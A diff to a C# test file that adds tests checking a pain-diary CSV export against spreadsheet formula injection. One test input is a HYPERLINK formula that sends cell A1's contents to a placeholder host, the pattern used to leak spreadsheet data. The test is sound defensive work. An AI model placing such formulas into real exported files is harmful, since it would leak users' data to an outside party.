@@ -34,6 +34,30 @@ public sealed class ExportFormatTests
         Assert.StartsWith("record,id,session,", text, StringComparison.Ordinal);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://example.org/?\"&A1,\"click\")")]
+    [InlineData("+1+1")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(A1:A2)")]
+    [InlineData("\tleading tab")]
+    [InlineData("\rleading carriage return")]
+    [InlineData("'=already quoted")]
+    [InlineData("'plain apostrophe")]
+    public void Csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_and_still_round_trip(string note)
+    {
+        var pain = new ExportedPainEntry(Guid.Parse("aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"), At, 4, null, note);
+        var document = new ExportDocument(ExportDocument.FormatName, 1, At.AddDays(2), "Europe/London", [], [pain]);
+        var text = ExportCsv.Write(document);
+
+        // Every cell of the pain row, as a spreadsheet reads it: none may start with = + - @ tab or CR.
+        var row = text.Split("\r\n")[2];
+        var cells = row.Split(',').Select(c => c.Trim('"')).ToList();
+        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@\t\r".Contains(c[0], StringComparison.Ordinal));
+        Assert.Contains(cells, c => c.StartsWith('\'') && c.Length > 1);
+
+        Assert.Equal(note, Assert.Single(ExportFile.Parse(text).PainEntries).Note);
+    }
+
     [Fact]
     public void Malformed_json_names_the_line_and_field()
     {
